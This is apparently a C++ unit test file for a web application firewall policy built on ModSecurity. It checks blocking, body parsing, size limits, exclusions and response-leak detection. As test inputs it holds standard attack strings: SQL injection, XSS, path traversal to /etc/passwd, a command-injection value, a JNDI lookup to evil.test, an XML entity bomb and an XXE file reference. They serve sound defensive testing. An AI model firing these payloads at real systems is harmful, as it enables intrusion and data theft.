// SPDX-FileCopyrightText: The Gatehouse authors
// SPDX-License-Identifier: Apache-2.0
#include "unit/policies/policy_fixture.h"

#include "base/bytes.h"
#include "policies/guard/waf/inspected_request.h"
#include "policies/guard/waf/rule_engine_library.h"
#include "policies/guard/waf/rule_sets.h"

#include <filesystem>
#include <fstream>
#include <unistd.h>
#include <zlib.h>

namespace gatehouse::policies {
namespace {

using pipeline::Mode;

std::string gzip(const std::string& text)
{
    z_stream stream{};
    deflateInit2(&stream, 6, Z_DEFLATED, MAX_WBITS + 16, 8, Z_DEFAULT_STRATEGY);
    std::string out(deflateBound(&stream, text.size()) + 64, '\0');
    stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(text.data()));
    stream.avail_in = static_cast<uInt>(text.size());
    stream.next_out = reinterpret_cast<Bytef*>(out.data());
    stream.avail_out = static_cast<uInt>(out.size());
    deflate(&stream, Z_FINISH);
    out.resize(stream.total_out);
    deflateEnd(&stream);
    return out;
}

base::Result<std::shared_ptr<const RuleSet>> compile(const RuleSetSettings& settings, const std::string& folder, pipeline::SharedStates* states)
{
    const auto engine = loadedRuleEngine();
    if (!engine)
        return engine.error();
    return ruleSet(**engine, settings, folder, states);
}

constexpr const char* kForm = "application/x-www-form-urlencoded";
constexpr const char* kJson = "application/json";

class WafTest : public PolicyTest
{
protected:
    WafTest()
    {
        static pipeline::SharedStates states; // one rule set for all tests with the same settings
        m_states = &states;
    }

    // A program that behaves.
    void agent()
    {
        field("Host", "api.acme.test");
        field("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0");
        field("Accept", "application/json, text/html");
    }
    int get(const std::string& path, const std::string& query = {})
    {
        newRequest();
        agent();
        m_texts.push_back(query.empty() ? path : path + '?' + query);
        m_head.target = m_texts.back();
        m_head.path = m_head.target.substr(0, path.size());
        m_head.query = query.empty() ? std::string_view() : m_head.target.substr(path.size() + 1);
        return run();
    }
    int getWith(const std::string& name, const std::string& value)
    {
        newRequest();
        if (name != "User-Agent")
            agent();
        field(name, value);
        m_head.target = m_head.path;
        return run();
    }
    int postBody(const std::string& type, const std::string& body, const std::string& coding = {})
    {
        newRequest();
        agent();
        m_head.method = http::Method::Post;
        m_head.methodText = "POST";
        m_head.target = m_head.path;
        if (!type.empty())
            field("Content-Type", type);
        if (!coding.empty())
            field("Content-Encoding", coding);
        m_lengths.push_back(std::to_string(body.size()));
        field("Content-Length", m_lengths.back());
        m_body = body;
        m_bodyKnown = true;
        m_context.hasBody = !body.empty();
        return run();
    }
    // 0: the answer goes out.
    int answered(const std::string& body, const std::string& type = "text/html", int status = 200, const std::string& coding = {})
    {
        http::ResponseHead head;
        head.status = status;
        if (!type.empty())
            head.fields.add("Content-Type", type);
        if (!coding.empty())
            head.fields.add("Content-Encoding", coding);
        m_chain.runResponse(m_context, head);
        uint64_t most = 0;
        for (const auto& held : m_context.heldFor)
            most = std::max(most, held.most);
        m_held = !m_context.heldFor.empty();
        const auto outcome = m_chain.runResponseBody(m_context, body.size() > most ? std::string_view(body).substr(0, most + 1) : body, body.size() <= most, m_reported, &m_trace);
        return outcome.verdict == pipeline::Verdict::Answer ? m_context.answer().status : 0;
    }
    std::string told() const
    {
        std::string out;
        for (const pipeline::Step& step : m_trace) {
            out += step.reason + '\n';
            for (const auto& [name, value] : step.details)
                out += name + '=' + value + '\n';
        }
        for (const auto& [name, value] : m_context.answer().fields)
            out += name + value;
        return out + m_context.answer().detail;
    }
    std::deque<std::string> m_lengths;
    bool m_held = false;
};

TEST_F(WafTest, RefusesAttacksWhereverTheyStand)
{
    use("waf", "{}");
    const std::string sql = "1'%20OR%20'1'='1'%20UNION%20SELECT%20password%20FROM%20users--";
    EXPECT_EQ(get("/orders/1", "q=" + sql), 403);
    EXPECT_EQ(code(), "waf.blocked");
    EXPECT_NE(told().find("942100="), std::string::npos) << told();
    EXPECT_NE(told().find("(ARGS:q)"), std::string::npos) << told();
    EXPECT_EQ(told().find("UNION"), std::string::npos) << "never what stood there: " << told();
    EXPECT_EQ(told().find("password"), std::string::npos) << told();
    EXPECT_GT(m_context.inspectionNs, 0u);
    EXPECT_EQ(get("/orders/1", "q=%3Cscript%3Ealert(1)%3C/script%3E"), 403);
    EXPECT_EQ(get("/orders/../../../etc/passwd"), 403);
    EXPECT_EQ(get("/orders", "file=../../../../etc/passwd"), 403);
    EXPECT_EQ(get("/orders", "host=127.0.0.1;cat%20/etc/passwd"), 403);
    EXPECT_EQ(get("/orders", "url=php://input"), 403);
    EXPECT_EQ(get("/.git/config"), 403);
    EXPECT_EQ(getWith("User-Agent", "sqlmap/1.7"), 403);
    EXPECT_EQ(getWith("Cookie", "session=1' UNION SELECT password FROM users--"), 403);
    EXPECT_EQ(getWith("Referer", "https://x.test/?a=<script>alert(document.cookie)</script>"), 403);
    EXPECT_EQ(get("/orders", "q=$%7Bjndi:ldap://evil.test/a%7D"), 403);
    EXPECT_EQ(postBody(kForm, "name=x&comment=%3Cscript%3Ealert(1)%3C/script%3E"), 403);
    EXPECT_EQ(postBody(kJson, "{\"a\":{\"b\":[\"1' UNION SELECT password FROM users--\"]}}"), 403);
    EXPECT_EQ(postBody("application/vnd.api+json; charset=utf-8", "{\"a\":\"<script>alert(1)</script>\"}"), 403);
    EXPECT_EQ(postBody("application/xml", "<a><b>1' UNION SELECT password FROM users--</b></a>"), 403);
    EXPECT_EQ(postBody("application/xml", "<a b=\"1' UNION SELECT password FROM users--\"/>"), 403) << "an attribute";
    EXPECT_EQ(postBody("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n"), 403);
    EXPECT_EQ(postBody("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"a\"; filename=\"x.php\"\r\n\r\nx\r\n--b--\r\n"), 403);
    EXPECT_EQ(postBody(kForm, gzip("comment=%3Cscript%3Ealert(1)%3C/script%3E"), "gzip"), 403) << "decoded before it is looked at";
}

TEST_F(WafTest, LooksAtWhatSaysNothingOfItself)
{
    use("waf", R"({"contentTypes":["text/plain","application/octet-stream","image/png"]})");
    EXPECT_EQ(postBody("text/plain", "{\"a\":\"1' UNION SELECT password FROM users--\"}"), 403) << "JSON by another name";
    EXPECT_EQ(postBody("text/plain", "a=1&b=1' UNION SELECT password FROM users--"), 403);
    EXPECT_EQ(postBody("application/octet-stream", "[1' UNION SELECT password FROM users--"), 403) << "begins like JSON and is none";
    EXPECT_EQ(postBody("application/octet-stream", std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16)), 0);
    EXPECT_EQ(postBody("image/png", std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16)), 0);
    EXPECT_EQ(postBody(kJson, "{}"), 403) << "a media type that is not listed";
}

TEST_F(WafTest, TakesTextsForTexts)
{
    use("waf", "{}");
    EXPECT_EQ(postBody("text/plain", "Just a few words,\nwith two lines; that's all.\r\n"), 0) << told();
    EXPECT_EQ(postBody("text/plain", "Just a few words,\nand 1' UNION SELECT password FROM users--"), 403);
    EXPECT_EQ(postBody(kForm, "a%0d%0aX-Y:%20b=1"), 403) << "in a form, names have no lines";
}

TEST_F(WafTest, PartsMayNameTheirCharset)
{
    use("waf", "{}");
    const auto part = [&](const std::string& type) { return postBody("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: " + type + "\r\n\r\nx\r\n--b--\r\n"); };
    EXPECT_EQ(part("text/plain; charset=utf-8"), 0) << told();
    EXPECT_EQ(part("application/json; charset=\"UTF-8\""), 0) << told();
    EXPECT_EQ(part("text/plain; charset=utf-7"), 403) << "which hides what it says";
}

TEST_F(WafTest, MediaTypesOfAFamily)
{
    use("waf", "{}");
    EXPECT_EQ(postBody("application/geo+json", "{\"type\":\"Point\"}"), 0) << told();
    EXPECT_EQ(postBody("Application/FHIR+JSON; charset=utf-8", "{\"type\":\"Point\"}"), 0) << told();
    EXPECT_EQ(postBody("application/atom+xml", "<feed/>"), 0) << told();
    EXPECT_EQ(postBody("application/geo+json", "{\"a\":\"<script>alert(1)</script>\"}"), 403) << "the other rules apply";
    EXPECT_EQ(postBody("application/json5", "{}"), 403);
    EXPECT_EQ(postBody("application/+json", "{}"), 403);
    EXPECT_EQ(postBody("text/x+json", "{}"), 403) << "of another family";
    use("waf", R"({"contentTypes":["application/json"]})");
    EXPECT_EQ(postBody("application/geo+json", "{}"), 403);
    EXPECT_EQ(refusedAt("waf", R"({"contentTypes":["application/*"]})").pointer, "/contentTypes");
    EXPECT_EQ(refusedAt("waf", R"({"contentTypes":["*/*+json"]})").pointer, "/contentTypes");
}

TEST_F(WafTest, LetsOrdinaryTrafficPass)
{
    use("waf", "{}");
    EXPECT_EQ(get("/orders/1"), 0) << told();
    EXPECT_EQ(get("/orders", "page=2&sort=-created_at&q=O%27Brien%20and%20sons"), 0) << told();
    EXPECT_EQ(get("/search", "q=select%20a%20chair%20from%20the%20list"), 0) << told();
    EXPECT_EQ(getWith("Cookie", "session=abcdef0123456789; theme=dark"), 0) << told();
    EXPECT_EQ(getWith("Authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJtb2JpbGUifQ.c2lnbmF0dXJl"), 0) << told();
    EXPECT_EQ(postBody(kJson, R"({"customer":{"name":"Zoë O'Neill","email":"zoe@example.com"},"items":[{"sku":"A-1","count":2,"note":"5 > 4 & so on"}],"total":12.5})"), 0) << told();
    EXPECT_EQ(postBody(kForm, "name=Jos%C3%A9&city=M%C3%BCnchen&message=Where+is+my+order+%231234%3F+Thanks%21"), 0) << told();
    EXPECT_EQ(postBody("multipart/form-data; boundary=\"b\"", "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--b--\r\n"), 0) << "a boundary in quotes: " << told();
    for (const char* method : {"PUT", "PATCH", "DELETE"}) {
        newRequest();
        agent();
        m_head.methodText = method;
        m_head.target = m_head.path;
        EXPECT_EQ(run(), 0) << method << told();
    }
}

TEST_F(WafTest, RefusesBodiesThatAreNotWhatTheySay)
{
    use("waf", "{}");
    EXPECT_EQ(postBody(kJson, "{\"a\":"), 400);
    EXPECT_EQ(code(), "waf.malformed");
    EXPECT_EQ(postBody(kJson, std::string(200, '[') + std::string(200, ']')), 400) << "deeper than is read";
    EXPECT_EQ(postBody("application/xml", "<a><b></a>"), 400);
    EXPECT_EQ(postBody("application/xml", "<!DOCTYPE a [<!ENTITY b 'x'><!ENTITY c '&b;&b;&b;'>]><a>&c;</a>"), 400) << "what multiplies";
    EXPECT_EQ(postBody("application/xml", "<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>"), 400);
    EXPECT_EQ(postBody("application/xml", std::string("\xFE\xFF\0<\0a\0/\0>", 10)), 400) << "UTF-16";
    EXPECT_EQ(postBody("application/xml", "<?xml version=\"1.0\" encoding=\"UTF-7\"?><a/>"), 400);
    EXPECT_EQ(code(), "waf.malformed");
    EXPECT_EQ(postBody("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx"), 400);
    EXPECT_EQ(postBody("multipart/form-data", "--b--"), 400) << told();
    EXPECT_EQ(postBody(kForm, "x", "gzip"), 400);
    EXPECT_EQ(code(), "waf.encoding");
    EXPECT_EQ(postBody(kForm, "x", "rot13"), 415);
    newRequest();
    field("Content-Type", "multipart/form-data; boundary=a");
    field("Content-Type", "multipart/form-data; boundary=b");
    m_context.hasBody = true;
    EXPECT_EQ(run(), 400) << "two boundaries";
    EXPECT_EQ(code(), "waf.media-type");
}

TEST_F(WafTest, BoundsWhatItLooksAt)
{
    use("waf", R"({"maxBody":1000,"maxArguments":10})");
    EXPECT_EQ(postBody(kForm, "a=" + std::string(998, 'x')), 0) << told();
    EXPECT_EQ(postBody(kForm, "a=" + std::string(999, 'x')), 413);
    EXPECT_EQ(code(), "waf.too-large");
    EXPECT_EQ(postBody(kForm, gzip("a=" + std::string(5000, 'x')), "gzip"), 413) << "once decoded";
    EXPECT_EQ(postBody(kForm, "a=1&a=2&a=3&a=4&a=5&a=6&a=7&a=8&a=9&a=10"), 0) << told();
    EXPECT_EQ(postBody(kForm, "a=1&a=2&a=3&a=4&a=5&a=6&a=7&a=8&a=9&a=10&a=11"), 400);
    EXPECT_EQ(code(), "waf.arguments");
    EXPECT_EQ(postBody(kJson, "[1,2,3,4,5,6,7,8,9,10,11]"), 400) << told();
    EXPECT_EQ(postBody("application/xml", "<a b='1' c='2' d='3' e='4' f='5' g='6' h='7' i='8' j='9' k='10' l='11'/>"), 400) << told();
    EXPECT_EQ(getWith("Cookie", "a=1; b=2; c=3; d=4; e=5; f=6; g=7; h=8; i=9; j=10; k=11"), 400) << told();
    EXPECT_EQ(get("/orders", "a=1&a=2&a=3&a=4&a=5&a=6&a=7&a=8&a=9&a=10&a=11"), 400) << told();
    use("waf", R"({"maxBody":1000,"larger":"first"})");
    const std::string attack = "q=%3Cscript%3Ealert(1)%3C/script%3E";
    EXPECT_EQ(postBody(kForm, attack + "&a=" + std::string(5000, 'x')), 403) << "within the first part";
    EXPECT_EQ(postBody(kForm, "a=" + std::string(5000, 'x') + '&' + attack), 0) << told();
    EXPECT_NE(told().find("body=the first 1000"), std::string::npos) << told();
    EXPECT_EQ(postBody(kJson, "{\"q\":\"<script>alert(1)</script>\",\"a\":\"" + std::string(5000, 'x') + "\"}"), 403) << "JSON that is cut off";
    EXPECT_EQ(postBody("application/xml", "<a><b>1' UNION SELECT password FROM users--</b>" + std::string(5000, ' ') + "</a>"), 403) << "XML that is cut off";
    EXPECT_EQ(postBody(kJson, "{\"q\":\"x\",\"a\":\"" + std::string(5000, 'x') + "\"}"), 0) << told();
    EXPECT_EQ(postBody(kForm, gzip(attack + "&a=" + std::string(50'000, 'x')), "gzip"), 403) << "so much as was decoded";
    use("waf", R"({"requestBodies":false})");
    EXPECT_EQ(postBody(kForm, attack), 0);
    EXPECT_EQ(postBody("multipart/form-data; boundary=b", attack), 0) << told();
    EXPECT_EQ(postBody(kJson, attack), 0) << told();
    EXPECT_EQ(get("/orders", attack), 403);
}

TEST_F(WafTest, ThresholdsAndLevels)
{
    const std::string attack = "q=%3Cscript%3Ealert(1)%3C/script%3E";
    use("waf", R"({"inboundThreshold":1000})");
    EXPECT_EQ(get("/orders", attack), 0);
    EXPECT_NE(told().find(" of 1000"), std::string::npos) << told();
    const std::string odd = "q=a%20%3D%20b%20--%20c%20%3B%20%23%20d%20%7C%20e";
    use("waf", "{}");
    EXPECT_EQ(get("/orders", odd), 0) << told();
    use("waf", R"({"paranoia":4})");
    EXPECT_EQ(get("/orders", odd), 403) << told();
    EXPECT_FALSE(make("waf", R"({"paranoia":5})").ok());
    EXPECT_FALSE(make("waf", R"({"paranoia":0})").ok());
}

TEST_F(WafTest, Exclusions)
{
    const std::string attack = "q=%3Cscript%3Ealert(1)%3C/script%3E";
    use("waf", R"({"exclusions":[{"rules":"941000-941999"}]})");
    EXPECT_EQ(get("/orders", attack), 0) << told();
    EXPECT_EQ(get("/orders", "q=1'%20UNION%20SELECT%20a%20FROM%20b--"), 403);
    use("waf", R"({"exclusions":[{"rules":"941000-941999","target":"ARGS:q"}]})");
    EXPECT_EQ(get("/orders", attack), 0) << told();
    EXPECT_EQ(get("/orders", "p=%3Cscript%3Ealert(1)%3C/script%3E"), 403) << "at the other argument they look";
    use("waf", R"({"exclusions":[{"tag":"attack-xss"}]})");
    EXPECT_EQ(get("/orders", attack), 0) << told();
    use("waf", R"({"exclusions":[{"tag":"attack-xss","target":"ARGS:q"}]})");
    EXPECT_EQ(get("/orders", attack), 0) << told();
    EXPECT_EQ(get("/orders", "p=%3Cscript%3Ealert(1)%3C/script%3E"), 403);
    use("waf", R"({"exclusions":[{"tag":"attack-generic"}]})");
    EXPECT_EQ(get("/orders", attack), 403) << "what refuses has this tag too, and stays";
    use("waf", R"({"exclusions":[{"rules":"123456"},{"tag":"no-such"}]})");
    EXPECT_EQ(get("/orders", attack), 403) << "what no rule set has harms nothing";
    EXPECT_EQ(refusedAt("waf", R"({"exclusions":[{"rules":"949110"}]})").pointer, "/exclusions/0/rules");
    EXPECT_EQ(refusedAt("waf", R"({"exclusions":[{"rules":"1","target":"ENV:x"}]})").pointer, "/exclusions/0/target");
}

TEST_F(WafTest, OwnRules)
{
    use("waf", R"({"ownRules":"SecRule ARGS:coupon \"@rx ^FREE\" \"id:1,phase:2,deny,status:422,msg:'A coupon, of old'\"\nSecRule REQUEST_HEADERS:X-Debug \"@unconditionalMatch\" \"id:2,phase:1,deny\""})");
    EXPECT_EQ(get("/orders", "coupon=FREE100"), 422);
    EXPECT_EQ(code(), "waf.blocked");
    EXPECT_NE(told().find("1=A coupon, of old (ARGS:coupon)"), std::string::npos) << told();
    EXPECT_EQ(told().find("FREE100"), std::string::npos) << told();
    EXPECT_EQ(getWith("X-Debug", "1"), 403);
    EXPECT_EQ(get("/orders", "coupon=NONE"), 0) << told();
    EXPECT_EQ(get("/orders", "q=%3Cscript%3Ealert(1)%3C/script%3E"), 403) << "the core rules apply as well";
    use("waf", R"({"coreRules":false,"ownRules":"SecRule ARGS:a \"@streq b\" \"id:1,phase:2,deny,chain\"\nSecRule ARGS:c \"@streq d\" \"t:lowercase\""})");
    EXPECT_EQ(get("/orders", "q=%3Cscript%3Ealert(1)%3C/script%3E"), 0);
    EXPECT_EQ(get("/orders", "a=b"), 0);
    EXPECT_EQ(get("/orders", "a=b&c=D"), 403);
    use("waf", R"({"ownRules":"SecRule REQUEST_FILENAME \"@beginsWith /orders\" \"id:1,phase:1,pass,nolog,ctl:ruleRemoveTargetById=941100;ARGS:q,ctl:ruleRemoveByTag=attack-xss\""})");
    EXPECT_EQ(get("/orders", "q=%3Cscript%3Ealert(1)%3C/script%3E"), 0) << told();
    EXPECT_EQ(get("/users", "q=%3Cscript%3Ealert(1)%3C/script%3E"), 403);
    EXPECT_EQ(refusedAt("waf", R"({"ownRules":"SecRuleEngine Off"})").pointer, "/ownRules");
    EXPECT_EQ(refusedAt("waf", R"({"ownRules":"SecRule ARGS \"@rx (\" \"id:1,phase:2,deny\""})").pointer, "/ownRules") << "the engine's own say";
    EXPECT_EQ(refusedAt("waf", R"({"ownRules":"SecRule ARGS x \"id:1,phase:2,deny\"\nSecRule ARGS x \"id:1,phase:2,deny\""})").pointer, "/ownRules") << "a number that is there twice";
}

TEST_F(WafTest, AnswersThatTellTooMuch)
{
    use("waf", R"({"responses":true})");
    ASSERT_EQ(get("/orders"), 0) << told();
    EXPECT_EQ(answered("<html>all is well</html>"), 0) << told();
    EXPECT_TRUE(m_held);
    const std::string leak = "<html>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</html>";
    ASSERT_EQ(get("/orders"), 0);
    EXPECT_EQ(answered(leak), 502);
    EXPECT_EQ(code(), "waf.response");
    EXPECT_EQ(told().find("SQL syntax"), std::string::npos) << told();
    ASSERT_EQ(get("/orders"), 0);
    EXPECT_EQ(answered(gzip(leak), "text/html", 200, "gzip"), 502);
    ASSERT_EQ(get("/orders"), 0);
    EXPECT_EQ(answered(leak, ""), 502) << "that says nothing of its type";
    ASSERT_EQ(get("/orders"), 0);
    EXPECT_EQ(answered(leak, "image/png"), 0);
    EXPECT_FALSE(m_held);
    ASSERT_EQ(get("/orders"), 0);
    EXPECT_EQ(answered(leak, "text/event-stream"), 0);
    EXPECT_FALSE(m_held) << "streams are not held up";
    ASSERT_EQ(get("/orders"), 0);
    EXPECT_EQ(answered("x", "text/html", 200, "rot13"), 502) << "what can't be looked at";
    ASSERT_EQ(get("/orders"), 0);
    EXPECT_EQ(answered(leak + std::string(600 * 1024, ' ')), 502) << "the first part";
    ASSERT_EQ(get("/orders"), 0);
    EXPECT_EQ(answered(std::string(600 * 1024, ' ') + leak), 0);
    use("waf", R"({"responses":true,"largerResponses":"refuse","maxResponse":1000})");
    ASSERT_EQ(get("/orders"), 0);
    EXPECT_EQ(answered(std::string(1001, ' ')), 502);
    use("waf", R"({"responses":true})", Mode::Report);
    ASSERT_EQ(get("/orders"), 0);
    EXPECT_EQ(answered(leak), 0);
    EXPECT_EQ(m_reported.size(), 1u);
    use("waf", "{}");
    ASSERT_EQ(get("/orders"), 0);
    EXPECT_EQ(answered(leak), 0);
    EXPECT_FALSE(m_held);
}

TEST_F(WafTest, ReportsAndExplains)
{
    std::vector<std::string> lines;
    const base::Logger log(base::LogLevel::Info, [&](std::string_view line) { lines.emplace_back(line); });
    m_log = &log;
    const std::string attack = "q=%3Cscript%3Ealert(4711)%3C/script%3E";
    use("waf", "{}", Mode::Report);
    EXPECT_EQ(get("/orders", attack), 0);
    ASSERT_EQ(m_reported.size(), 1u);
    ASSERT_EQ(lines.size(), 1u);
    EXPECT_NE(lines[0].find("\"rule\":941100"), std::string::npos) << lines[0];
    EXPECT_NE(lines[0].find("acme/p"), std::string::npos);
    EXPECT_EQ(lines[0].find("4711"), std::string::npos) << lines[0];
    for (int i = 0; i < 100; ++i)
        (void)get("/orders", attack);
    EXPECT_EQ(lines.size(), 10u) << "of one second";
    m_clock.advance(std::chrono::seconds(1));
    (void)get("/orders", attack);
    EXPECT_NE(lines.back().find("\"leftOut\":91"), std::string::npos) << lines.back();
    // Explained without a body, and without a line in the log.
    const size_t before = lines.size();
    newRequest();
    m_context.dryRun = true;
    m_context.hasBody = true;
    m_bodyKnown = false;
    m_head.target = m_head.path;
    EXPECT_EQ(run(), 0);
    EXPECT_EQ(lines.size(), before);
}

TEST_F(WafTest, NamesOfArgumentsAreMadeFitForLogs)
{
    use("waf", "{}");
    EXPECT_EQ(get("/orders", "a%0d%0ab%1b%ff=%3Cscript%3Ealert(1)%3C/script%3E"), 403);
    for (const char c : told())
        EXPECT_TRUE(c == '\n' || static_cast<unsigned char>(c) >= 0x20) << told();
    EXPECT_TRUE(base::isValidUtf8(told()));
}

TEST_F(WafTest, EqualSettingsShareOneRuleSet)
{
    pipeline::SharedStates states;
    const std::string folder = coreRulesFolder();
    ASSERT_FALSE(folder.empty()) << "these tests need the package modsecurity-crs";
    RuleSetSettings settings;
    const auto one = compile(settings, folder, &states);
    const auto same = compile(settings, folder, &states);
    settings.paranoia = 2;
    const auto other = compile(settings, folder, &states);
    ASSERT_TRUE(one.ok() && same.ok() && other.ok());
    EXPECT_EQ(*one, *same);
    EXPECT_NE(*one, *other);
    // What differs is small: the rules themselves are there once.
    const auto resident = [] {
        std::ifstream file("/proc/self/statm");
        size_t total = 0, pages = 0;
        file >> total >> pages;
        return pages * static_cast<size_t>(sysconf(_SC_PAGESIZE));
    };
    const size_t before = resident();
    std::vector<std::shared_ptr<const RuleSet>> many;
    for (int i = 0; i < 50; ++i) {
        settings.inboundThreshold = 10 + i;
        auto made = compile(settings, folder, &states);
        ASSERT_TRUE(made.ok());
        many.push_back(*made);
    }
    EXPECT_LT(resident(), before + many.size() * 512u * 1024);
}

TEST_F(WafTest, SaysWhenNoRuleSetIsInstalled)
{
    const auto made = compile({}, "/nowhere", nullptr);
    ASSERT_FALSE(made.ok());
    ASSERT_EQ(made.error().problems.size(), 1u);
    EXPECT_EQ(made.error().problems[0].pointer, "/coreRules");
    EXPECT_NE(made.error().problems[0].message.find("modsecurity-crs"), std::string::npos);
    RuleSetSettings own;
    own.coreRules = false;
    EXPECT_TRUE(compile(own, "", nullptr).ok()) << "own rules need none";
}

TEST_F(WafTest, ABrokenRuleSetIsNotTaken)
{
    const auto folder = std::filesystem::temp_directory_path() / ("gatehouse-waf-" + std::to_string(getpid()));
    std::filesystem::create_directories(folder);
    std::ofstream(folder / "REQUEST-901-X.conf") << "SecRule ARGS\n";
    const auto made = compile({}, folder.string(), nullptr);
    std::filesystem::remove_all(folder);
    ASSERT_FALSE(made.ok());
    EXPECT_EQ(made.error().problems.at(0).pointer, "/coreRules");
}

TEST_F(WafTest, SaysWhyItsEngineIsNotThere)
{
    const auto missing = loadRuleEngine("/nowhere/gatehouse-waf.so");
    ASSERT_FALSE(missing.ok());
    ASSERT_EQ(missing.error().problems.size(), 1u);
    EXPECT_NE(missing.error().problems[0].message.find("/nowhere/gatehouse-waf.so"), std::string::npos) << missing.error().problems[0].message;
    EXPECT_NE(missing.error().problems[0].message.find("libmodsecurity3"), std::string::npos) << missing.error().problems[0].message;
    EXPECT_FALSE(loadRuleEngine("libz.so.1").ok()) << "a library that is none of ours";
    EXPECT_TRUE(loadedRuleEngine().ok());
}

TEST(InspectedRequest, WhatTakesLongIsTold)
{
    Inspection::Request request;
    request.target = "/orders/1?page=2&sort=name";
    const size_t small = weightOf(request);
    EXPECT_LT(small, 1000u);
    request.bytes = "a=" + std::string(20'000, 'x');
    EXPECT_GT(weightOf(request), 20'000u);
    request.bytes.clear();
    for (int i = 0; i < 300; ++i)
        request.bytes += "a&";
    EXPECT_GT(weightOf(request), 300u * 100u) << "many arguments";
    request.bytes.clear();
    request.fields.emplace_back("COOKIE", "a=1; b=2");
    EXPECT_GT(weightOf(request), small + 100);
}

} // namespace
} // namespace gatehouse::policies
